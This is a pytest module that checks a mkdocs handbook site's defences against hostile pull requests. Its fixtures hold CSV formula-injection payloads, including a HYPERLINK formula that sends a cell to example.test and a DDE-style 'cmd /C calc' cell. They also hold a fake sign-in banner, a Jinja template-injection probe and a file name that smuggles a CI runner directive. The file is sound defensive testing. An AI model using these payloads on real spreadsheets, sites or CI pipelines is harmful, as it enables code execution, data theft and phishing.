"""Hostile or mistaken pull requests, second round: nothing published that a file did not say,
nothing silently dropped.

Each case is written here as a plan or docs file of the tests' own: spreadsheet formulas in
every text a CSV carries, prose that dresses as the site or tries to move its parts, files at
addresses the site already uses, files under `plans/` the site would never read, titles that
only look different, and docs pages that run code. (Line breaks only YAML sees and years in
other digits are in the bad-plans corpus, `tests/test_validation.py`, which the plan form's
tests run too.)
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
from collections import Counter
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup

from handbook import urls
from handbook.browser.downloads import spreadsheet_cell
from handbook.library import Library
from handbook.outputs import addresses
from handbook.outputs.addresses import Published
from handbook.pages import PageBuilder
from handbook.plans.loading import read_plan
from handbook.plans.model import Plan
from mkdocs_handbook.macro_pages import runs_macros
from tests.support.project import ROOT, Site, build_site, make_project, problem_lines, run, snapshot

FORMULAS = """
    ---
    title: '=HYPERLINK("http://example.test/?"&A1,"Details")'
    level: school
    organization: "-Springfield Elementary"
    district: sample-district-plan
    year: "2026-27"
    goals:
      - title: "+SUM(1,2)"
        kind: academic
        audience: "@families"
        activities:
          - text: "=1+2"
            type: 1
            dates: "-2+3"
            responsible: "@SUM(1)"
            expected_results: "\\t=1+2"
            costs: "+cmd|' /C calc'!A0"
            grades: "=3"
            preparations: "-4"
            status: done
            outcome: '=IMPORTXML("http://example.test/",A1)'
            practice: true
    ---
"""
"""A formula in every text a CSV row carries (the tab before `=1+2` is stripped as the plan is read)."""

DRESSED = """
    ---
    title: A plan that dresses as the site
    level: district
    goals:
      - title: Share what works.
        strategies: [Share knowledge]
        audience: Principals
        activities: [Hold a forum., Publish a newsletter.]
    closing: |
      The closing's words[^2]. <div class="footnote">Not the footnotes.</div>

      [^2]: The closing's note.
    ---
    <div class="md-banner md-banner--warning" id="goal-1-activity-1" style="position:fixed;top:0">Your session
    expired: <a href="https://example.test/login" class="md-button">sign in again</a></div>

    <p class="admonition danger" id="goal-1">A box that looks like the site's.</p>

    HANDBOOKGOALSGOHERE

    The introduction's last words[^1]. <span id="fn:1" class="footnote-ref">A footnote of its own.</span>

    [^1]: The introduction's note.
"""
"""Prose with the theme's classes, ids the site gives, style, the marker word and footnote markup."""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    project = make_project(
        tmp_path_factory.mktemp("hostile"), {"formulas.md": FORMULAS, "dressed.md": DRESSED}
    )
    return build_site(project)


def csv_rows(site: Site, path: str) -> list[dict[str, str]]:
    text = site.path(path).read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


FORMULA_COLUMNS = {
    "plan_title": '\'=HYPERLINK("http://example.test/?"&A1,"Details")',
    "goal_title": "'+SUM(1,2)",
    "text": "'=1+2",
    "audience": "'@families",
    "dates": "'-2+3",
    "responsible": "'@SUM(1)",
    "expected_results": "'=1+2",
    "costs": "'+cmd|' /C calc'!A0",
    "grades": "'=3",
    "preparations": "'-4",
    "outcome": '\'=IMPORTXML("http://example.test/",A1)',
}


@pytest.mark.parametrize(
    "path",
    ["catalogue/activities.csv", "plans/formulas/activities.csv", "practices/2026-27/practices-2026-27.csv"],
)
def test_no_csv_cell_starts_a_formula(site: Site, path: str) -> None:
    rows = [row for row in csv_rows(site, path) if row["plan"] == "formulas"]
    assert len(rows) == 1
    assert {column: rows[0][column] for column in FORMULA_COLUMNS} == FORMULA_COLUMNS
    every = [cell for row in csv_rows(site, path) for cell in row.values()]
    assert [cell for cell in every if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_the_json_keeps_each_text_as_written(site: Site) -> None:
    rows = json.loads(site.path("catalogue/activities.json").read_text("utf-8"))
    row = next(row for row in rows if row["plan"] == "formulas")
    assert row["text"] == "=1+2"
    assert row["costs"] == "+cmd|' /C calc'!A0"
    assert row["goal"] == 1  # numbers stay numbers


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (["=A1", "B"], "'=A1; B"),
        ("A = B", "A = B"),
        (-1, -1),
        (True, True),
        (None, ""),
    ],
)
def test_a_spreadsheet_cell_never_starts_a_formula(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell


def article(site: Site, url: str) -> BeautifulSoup:
    return BeautifulSoup(str(site.content(url)), "html.parser")


def test_plan_prose_keeps_no_class_id_or_style_of_its_own(site: Site) -> None:
    page = article(site, "plans/dressed/")
    for words in (
        "Your session",
        "sign in again",
        "A box that looks like",
        "A footnote of its own",
        "Not the footnotes",
    ):
        element = page.find(string=re.compile(words))
        assert element is not None, words
        for tag in [element.parent, *element.parent.parents]:
            if tag.name == "article":
                break
            assert "md-banner" not in tag.get("class", []), words
            assert "admonition" not in tag.get("class", []), words
            assert tag.get("style") is None, words
            assert tag.get("id") not in ("goal-1-activity-1", "goal-1", "fn:1"), words
    assert page.select(".md-button, .md-banner, .admonition, [style]") == []


def test_no_id_is_given_twice_and_the_site_anchors_are_the_real_ones(site: Site) -> None:
    page = site.page("plans/dressed/")
    ids = Counter(str(tag["id"]) for tag in page.select("[id]"))
    assert [name for name, count in ids.items() if count > 1] == []
    anchor = page.find(id="goal-1-activity-1")
    assert anchor is not None and "Hold a forum." in anchor.get_text()
    # The footnotes Python-Markdown makes keep their ids and classes.
    assert page.select('article sup[id="fnref:1"] a.footnote-ref[href="#fn:1"]')
    assert page.select('article div.footnote li[id="fn:1"]')
    assert page.select('article div.footnote li[id="fn:2"]')


def test_no_word_or_markup_moves_a_part_of_the_page(site: Site) -> None:
    text = " ".join(site.content("plans/dressed/").get_text(" ").split())
    order = [
        "Your session expired",
        "HANDBOOKGOALSGOHERE",
        "The introduction's last words",
        "Hold a forum.",
        "Publish a newsletter.",
        "The closing's words",
        "Not the footnotes.",
        "The introduction's note.",
        "The closing's note.",
    ]
    places = [text.find(words) for words in order]
    assert -1 not in places, dict(zip(order, places, strict=True))
    assert places == sorted(places)
    assert text.count("Hold a forum.") == 1


def check(project: Path) -> subprocess.CompletedProcess[str]:
    return run(project, sys.executable, "-m", "handbook.commands.check", "plans")


def test_a_plan_named_like_a_page_of_the_plans_index_is_refused(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project")
    state = (project / "plans" / "sample-state-plan.md").read_text("utf-8")
    (project / "plans" / "page-2.md").write_text(state.replace("title: Sample", "title: Page two"), "utf-8")
    result = check(project)
    assert result.returncode == 1
    assert problem_lines(result.stderr) == [
        "plans/page-2.md: the file name 'page-2' is taken: /plans/page-2/ is page 2 of the list of plans; "
        "name the file after the plan's organization, like springfield-district-plan.md"
    ]


def test_a_plan_and_a_page_of_a_paginated_index_at_one_address_are_a_clash(tmp_path: Path) -> None:
    """What `make check` refuses by name would otherwise meet page 2 of the plans index at
    one address: the build's own check says so too (without the name rule, it is the last
    line of defence)."""
    folder = tmp_path / "plans"
    folder.mkdir()
    state = (ROOT / "plans" / "sample-state-plan.md").read_text("utf-8")
    plans = []
    for n, slug in enumerate(["alpha", "beta", "gamma", "delta"]):
        (folder / f"{slug}.md").write_text(state.replace("title: Sample", f"title: Plan {n}"), "utf-8")
        plan = read_plan(folder / f"{slug}.md", f"plans/{slug}.md", tmp_path)
        assert isinstance(plan, Plan)
        plans.append(plan)
    plans[-1] = plans[-1].model_copy(
        update={"slug": "page-2", "source": "plans/page-2.md"}
    )  # as if not refused
    builder = PageBuilder(Library.from_plans(plans), urls.Urls(), page_budget=1)
    published = [
        Published(urls.Urls().url(page.src_uri), f"{page.src_uri} ({page.source})")
        for page in builder.pages()
    ]
    assert "plans/page-2.md (None)" in {item.source for item in published}  # the index is paginated
    assert list(addresses.clashes(published)) == [
        "plans/page-2/: published from both plans/page-2.md (None) and plans/page-2/index.md (plans/page-2.md), "
        "and only one can be: rename one of them"
    ]


HAND_WRITTEN = {
    "catalogue.md": "# My catalogue\n",
    "plans/sample-district-plan.md": "# Not the district's plan\n",
    "years/2026-27/index.md": "# My year\n",
    "catalogue/activities.csv": "plan,text\nmine,=1+2\n",
    "schema/plan.schema.json": "{}\n",
    "pagefind/pagefind.js": "// mine\n",
    "sitemap.xml": "<urlset/>\n",
}


def test_a_hand_written_page_or_file_at_a_generated_address_stops_the_build(tmp_path: Path) -> None:
    good = make_project(tmp_path / "good")
    assert run(good, sys.executable, "-m", "mkdocs", "build", "--strict").returncode == 0
    project = make_project(tmp_path / "project")
    for name, text in HAND_WRITTEN.items():
        (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
        (project / "docs" / name).write_text(text, "utf-8")
    shutil.copytree(good / "site", project / "site")
    before = snapshot(project / "site")
    result = run(project, sys.executable, "-m", "mkdocs", "build", "--strict")
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    assert "7 problems with the site's addresses; nothing was built" in result.stderr
    lines = [line for line in result.stderr.splitlines() if ": published from both docs/" in line]
    named = {line.split(":", 1)[0]: line for line in lines}
    assert sorted(named) == [
        "catalogue/activities.csv",
        "catalogue/index.html",
        "plans/sample-district-plan/index.html",
        "schema/plan.schema.json",
        "years/2026-27/index.html",
    ]
    for address, line in named.items():
        written = next(
            name
            for name in HAND_WRITTEN
            if line.startswith(f"{address}: published from both docs/{name} and ")
        )
        assert line.endswith(f"and only one can be: rename or remove docs/{written}")
    assert (
        "plans/sample-district-plan/index.html: published from both docs/plans/sample-district-plan.md and the page "
        "'Sample District Leadership Plan for School, Family, and Com…' made from plans/sample-district-plan.md"
    ) in named["plans/sample-district-plan/index.html"]
    assert (
        "pagefind/pagefind.js: docs/pagefind/pagefind.js is where the build writes a file of its own (the site "
        "search's, the sitemap, the 404 page) after the pages, which would replace it: move it elsewhere"
    ) in result.stderr
    assert "sitemap.xml: docs/sitemap.xml is where the build writes a file of its own" in result.stderr
    assert snapshot(project / "site") == before


UNREAD = {
    "sub/nested-plan.md": "plans/sub/nested-plan.md: in a folder, where the site never reads a plan: plans are files directly in plans/; move it to plans/nested-plan.md",
    "sub/notes.txt": "plans/sub/notes.txt: in a folder of plans/, which the site never reads: move it out of plans/ or remove it",
    "Shouting.MD": "plans/Shouting.MD: the site reads only names that end in '.md' in lowercase: rename it to Shouting.md",
    "long-name.markdown": "plans/long-name.markdown: the site reads only plan files named <name>.md: rename it to long-name.md",
    "saved-as-text.md.txt": "plans/saved-as-text.md.txt: the site reads only plan files named <name>.md: rename it to saved-as-text.md",
    "backup.md~": "plans/backup.md~: an editor's backup or a system file, which the site never reads: remove it",
    ".backup.md.swp": "plans/.backup.md.swp: an editor's backup or a system file, which the site never reads: remove it",
    "notes.txt": "plans/notes.txt: not a plan, so the site never reads it: plans/ holds only plan files named <name>.md; move it elsewhere or remove it",
}


def test_every_file_under_plans_that_is_not_read_is_named(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project")
    plan = (project / "plans" / "sample-state-plan.md").read_text("utf-8")
    for name in UNREAD:
        (project / "plans" / name).parent.mkdir(exist_ok=True)
        (project / "plans" / name).write_text(plan, "utf-8")
    (project / "plans" / "empty-folder").mkdir()
    (project / "plans" / "README.md").write_text(
        "# Plans\n\nOne file per plan.\n", "utf-8"
    )  # kept on purpose
    (project / "plans" / ".gitkeep").write_text(plan, "utf-8")  # a plan under a name never read
    result = check(project)
    assert result.returncode == 1
    assert problem_lines(result.stderr) == sorted(
        [
            *UNREAD.values(),
            "plans/.gitkeep: starts like a plan ('---'), but this name is kept for notes and never read as a plan: "
            "give the plan a file name of its own, like springfield-district-plan.md",
            "plans/empty-folder: a folder, which the site never reads: plans are files directly in plans/; remove it",
        ]
    )
    assert "Traceback" not in result.stderr


def test_titles_that_only_look_different_are_the_same_title(tmp_path: Path) -> None:
    state = (ROOT / "plans" / "sample-state-plan.md").read_text("utf-8")
    title = "Sample State Leadership Plan for School, Family, and Community Partnerships"
    project = make_project(
        tmp_path / "project",
        {
            "cyrillic.md": state.replace(
                title, "Sampl\u0435 State Leadership Plan for School, Family, and Community Partnerships"
            ),
            "zero-width.md": state.replace(
                title, "Sample State Leadership\u200b Plan for School, Family, and Community Partnerships"
            ),
            "full-width.md": state.replace(
                title, "\uff33ample State Leadership Plan for School, Family, and Community Partnerships"
            ),
        },
    )
    result = check(project)
    assert result.returncode == 1
    lines = problem_lines(result.stderr)
    assert len(lines) == 3
    for line in lines:
        assert re.fullmatch(
            r"plans/[a-z-]+\.md:3: title: looks the same as the title of plans/cyrillic\.md \('Sampl.*'\): they differ "
            r"only in invisible characters or in letters that look alike \(such as a Cyrillic .* for a Latin e\); "
            r"each plan needs its own title",
            line,
        ), line
    assert {line.split(":")[0] for line in lines} == {
        "plans/sample-state-plan.md",
        "plans/zero-width.md",
        "plans/full-width.md",
    }


def test_a_cr_only_file_reads_as_the_same_plan(tmp_path: Path) -> None:
    text = (ROOT / "plans" / "sample-district-plan.md").read_text("utf-8")
    (tmp_path / "plans").mkdir()
    for name, ends in (("lf.md", "\n"), ("cr.md", "\r"), ("crlf.md", "\r\n")):
        (tmp_path / "plans" / name).write_bytes(text.replace("\n", ends).encode("utf-8"))
    read = [read_plan(tmp_path / "plans" / name, name, tmp_path) for name in ("lf.md", "cr.md", "crlf.md")]
    assert all(isinstance(plan, Plan) for plan in read)
    fields = [plan.model_dump(exclude={"slug", "source"}) for plan in read if isinstance(plan, Plan)]
    assert fields[0] == fields[1] == fields[2]
    assert "\r" not in fields[1]["introduction"]


def git(folder: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.test", *args],
        cwd=folder, capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip


def test_the_pull_request_notice_names_every_changed_page_that_runs_macros(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "plain.md").write_text("# Plain\n", "utf-8")
    (docs / "opted.md").write_text("---\nrender_macros: true\n---\n# Old\n", "utf-8")
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-q", "-m", "base")
    base = git(tmp_path, "rev-parse", "HEAD").strip()
    (docs / "plain.md").write_text("# Plain, changed\n", "utf-8")
    (docs / "opted.md").write_text("---\nrender_macros: true\n---\n# {{ cycler.__init__ }}\n", "utf-8")
    (docs / "one.md").write_text("---\nrender_macros: 1\n---\n# New\n", "utf-8")
    (docs / "multimarkdown.md").write_text(
        "render_macros: true\n\n# Old-style metadata\n", "utf-8"
    )  # a string: not run
    (docs / "quoted.md").write_text('---\nrender_macros: "true"\n---\n# Not run\n', "utf-8")
    (docs / "sub").mkdir()
    (docs / "sub" / "a,b:c.md").write_text("---\nrender_macros: true\n---\n", "utf-8")
    # A name that would stop the runner obeying commands, or leave its code span in the summary.
    (docs / "sub" / "##[stop-commands]x `](http:evil).md").write_text(
        "---\nrender_macros: true\n---\n", "utf-8"
    )
    (docs / "unchanged-but-new.txt").write_text("render_macros: true\n", "utf-8")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-q", "-m", "change")
    summary = tmp_path / "summary.md"
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs_handbook.macro_pages", base],
        cwd=tmp_path, capture_output=True, text=True,
        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "GITHUB_STEP_SUMMARY": str(summary)},
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    warnings = [line for line in result.stdout.splitlines() if line.startswith("::warning ")]
    assert [line.split("::")[1] for line in warnings] == [
        "warning file=docs/one.md,line=1,title=Runs code when built",
        "warning file=docs/opted.md,line=1,title=Runs code when built",
        "warning file=docs/sub/#\\x23[stop-commands]x `](http%3Aevil).md,line=1,title=Runs code when built",
        "warning file=docs/sub/a%2Cb%3Ac.md,line=1,title=Runs code when built",
    ]
    assert "##[" not in result.stdout
    assert result.stdout.splitlines()[-1] == "4 changed pages in docs/ run macros."
    said = summary.read_text("utf-8")
    assert "- ``docs/sub/##[stop-commands]x `](http:evil).md``\n" in said  # one code span, whatever the name


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("---\nrender_macros: true\n---\n", True),
        ("---\nrender_macros: 1\n---\n", True),
        ("---\nrender_macros: false\n---\n", False),
        ('---\nrender_macros: "true"\n---\n', False),
        ("render_macros: true\n\ntext\n", False),
        ("# no metadata\n", False),
    ],
)
def test_a_page_runs_macros_exactly_when_mkdocs_macros_would(text: str, runs: bool) -> None:
    assert runs_macros(text) is runs


def test_the_pull_request_workflow_writes_the_notice() -> None:
    flow = yaml.safe_load((ROOT / ".github" / "workflows" / "pull-request.yml").read_text("utf-8"))
    steps = flow["jobs"]["check"]["steps"]
    notice = next(step for step in steps if "mkdocs_handbook.macro_pages" in step.get("run", ""))
    assert notice["env"]["BASE"] == "${{ github.event.pull_request.base.sha }}"
    assert 'python -m mkdocs_handbook.macro_pages "$BASE"' in notice["run"]


def codeowners() -> list[tuple[str, list[str]]]:
    rules = []
    for line in (ROOT / ".github" / "CODEOWNERS").read_text("utf-8").splitlines():
        if line.strip() and not line.startswith("#"):
            pattern, *owners = line.split()
            rules.append((pattern, owners))
    return rules


def owners_of(path: str) -> list[str]:
    """The owners of a file by GitHub's rule for the patterns used here: the last match wins."""
    found: list[str] = []
    for pattern, owners in codeowners():
        prefix = pattern.lstrip("/")
        if (
            pattern == "*"
            or (pattern.endswith("/") and path.startswith(prefix))
            or (
                pattern.endswith("/*.md")
                and path.startswith(prefix[:-4])
                and "/" not in path[len(prefix) - 4 :]
                and path.endswith(".md")
            )
            or path == prefix
        ):
            found = owners
    return found


def test_code_asks_a_maintainer_and_plans_do_not() -> None:
    assert owners_of("plans/sample-state-plan.md") == []
    assert owners_of("docs/template.md") == []
    for code in ("handbook/plans/model.py", "mkdocs_handbook/plugin.py", "macros.py", "mkdocs_handbook/macro_pages.py", "mkdocs.yml",
                 "overrides/main.html", ".github/workflows/pull-request.yml", "docs/javascripts/plan-form.js"):  # fmt: skip
        assert owners_of(code), code


def test_every_docs_page_that_runs_macros_asks_a_maintainer() -> None:
    pages = sorted(
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "docs").rglob("*.md")
        if runs_macros(path.read_text("utf-8"))
    )
    assert pages  # the home page, the plan form and the guide run macros
    assert [page for page in pages if not owners_of(page)] == []
